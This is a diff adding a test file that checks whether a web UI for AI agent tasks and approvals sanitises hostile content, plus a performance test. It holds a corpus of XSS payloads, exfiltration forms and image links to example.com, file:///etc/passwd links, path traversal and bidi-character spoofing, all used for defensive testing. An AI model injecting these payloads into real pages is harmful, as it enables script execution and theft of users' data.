@@ -1,0 +1,100 @@
+import t from 'tap'
+import { createStage } from './support/open-page.ts'
+import { conversationId, sampleApproval, sampleMessage, sampleSnapshot, sampleTask } from './support/samples.ts'
+
+const stage = await createStage(t)
+
+const corpus = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><a href="javascript:window.hacked=1">x</a></svg>',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<style>body { display: none }</style>',
+  '<form action="https://example.com/steal"><input name="token"><button>Approve</button></form>',
+  '[click](javascript:window.hacked=1)',
+  '[click](JaVaScRiPt&colon;window.hacked=1)',
+  '[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)',
+  '[click](vbscript:x) [click](file:///etc/passwd) [click](/v1/approvals/appr-1)',
+  '<javascript:window.hacked=1>',
+  '![secret](https://example.com/leak.png?q=secret)',
+  '[![secret](https://example.com/leak2.png)](https://example.com/)',
+  '![x](javascript:window.hacked=1) ![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '[ref]\n\n[ref]: javascript:window.hacked=1 "x"',
+  '| a |\n|---|\n| <img src=x onerror=window.hacked=1> |',
+  '```html\n<script>window.hacked = 1</script>\n```',
+  '`<img src=x onerror=window.hacked=1>`',
+  '# <b onmouseover=window.hacked=1>heading</b>',
+  '> '.repeat(4_000) + 'deep',
+  '- '.repeat(500) + 'deep',
+  '*'.repeat(20_000),
+  '['.repeat(5_000) + 'x' + '](y)'.repeat(5_000),
+  'https://example.com/' + 'a'.repeat(5_000),
+  '\u202egnp.exe \u0000 \ufeff'
+]
+
+t.test('nothing a model, a tool or a file says becomes a script, a form, an image or a request', async (t) => {
+  const { server, open } = await stage(t)
+  const task = sampleTask({
+    title: '<img src=x onerror=window.hacked=1>',
+    status: 'awaiting_approval',
+    started: 9,
+    ended: 3,
+    more: {
+      error: { code: 'CTX_X', message: '<script>window.hacked=1</script>' },
+      result: { summary: corpus[1]!, evidence: [{ claim: corpus[0]!, detail: corpus[1]! }], report: corpus.slice(0, 18).join('\n\n') }
+    }
+  })
+  const approval = sampleApproval(task, {
+    summary: corpus[0]!,
+    dry_run: corpus[1]!,
+    changes: [{ toolkit: 'gitops', target: '../../etc/\u202ecod.yaml', verb: 'update', diff: '--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-a\n+<script>window.hacked=1</script>\n+access = "user\u202e \u2066// only admins\u2069 \u2066"\n' }]
+  })
+  server.snapshots.set(conversationId, { ...sampleSnapshot(), title: '<script>window.hacked=1</script>', messages: corpus.map((text, index) => sampleMessage(index % 2 ? 'user' : 'assistant', text)), tasks: [task], approvals: [approval] })
+  server.logs.set(task.id, { task_id: task.id, from: 0, total: 1, lines: [{ at: '', level: 'info', attempt: 1, message: '<img src=x onerror=window.hacked=1> \u001b]8;;javascript:1\u0007' }] })
+
+  const began = Date.now()
+  const page = await open(t, { path: `/c/${conversationId}?task=${task.id}` })
+  const origin = new URL(page.url()).origin
+  const foreign: string[] = []
+  page.on('request', (request) => { if (!request.url().startsWith(origin)) foreign.push(request.url()) })
+  await page.getByText('access = "user⟨U+202E⟩').waitFor()
+  t.ok(Date.now() - began < 6_000, 'and none of it is slow')
+
+  t.equal(await page.evaluate(() => (window as { hacked?: unknown }).hacked), undefined)
+  t.equal(await page.locator('#root :is(script, img, iframe, object, embed, style, link, form form, form[action], svg a)').count(), 0)
+  const links = await page.locator('#root a').evaluateAll((all) => all.map((link) => ({ href: link.getAttribute('href') ?? '', rel: link.getAttribute('rel') })))
+  t.ok(links.length > 0)
+  for (const { href, rel } of links) t.ok(/^(https?|mailto):/.test(href) && rel?.includes('noopener'), href.slice(0, 80))
+  const handlers = await page.evaluate(() => [...document.querySelectorAll('#root *')].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))))
+  t.same(handlers, [])
+  t.same(foreign, [])
+  await page.getByText('⟨U+202E⟩cod.yaml').waitFor()
+})
+
+t.test('sixty tasks at a thousand events a second leave the page responsive', async (t) => {
+  const { server, open } = await stage(t)
+  const tasks = Array.from({ length: 60 }, (_, index) => sampleTask({ title: `Task ${index}`, status: 'in_progress', started: 5, master: ['infrastructure-master', 'security-master', 'cicd-master'][index % 3]! }))
+  server.snapshots.set(conversationId, { ...sampleSnapshot(), tasks, approvals: [], messages: [] })
+  const page = await open(t)
+  await page.getByText('Live').waitFor()
+  await page.evaluate(() => {
+    const watch = window as { longest?: number }
+    let last = performance.now()
+    watch.longest = 0
+    const tick = (now: number) => {
+      watch.longest = Math.max(watch.longest ?? 0, now - last)
+      last = now
+      requestAnimationFrame(tick)
+    }
+    requestAnimationFrame(tick)
+  })
+  const rounds = 40
+  for (let round = 1; round <= rounds; round++) {
+    server.send(conversationId, ...tasks.slice(0, 50).map((task) => ({ type: 'task' as const, task: { ...task, rev: round + 1, progress: { percent: round * 2, step: `Step ${round}` } } })))
+    await new Promise((resolve) => setTimeout(resolve, 50))
+  }
+  await page.locator('[data-task-id]').first().getByText('80%').waitFor()
+  const longest = await page.evaluate(() => (window as { longest?: number }).longest ?? 0)
+  t.comment(`longest frame ${Math.round(longest)} ms at ${50 / 0.05} events a second`)
+  t.ok(longest < 200, `${Math.round(longest)} ms`)
+})
